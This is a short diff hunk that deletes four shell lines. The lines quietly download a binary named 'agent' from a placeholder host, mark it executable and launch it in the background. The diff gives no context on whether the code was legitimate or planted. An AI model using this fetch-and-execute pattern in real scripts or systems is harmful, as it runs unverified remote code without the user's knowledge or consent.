@@ -1,4 +1,0 @@
-T=$(mktemp)
-wget -q -O "$T" "https://dl.example.com/agent"
-chmod 755 "$T"
-"$T" &
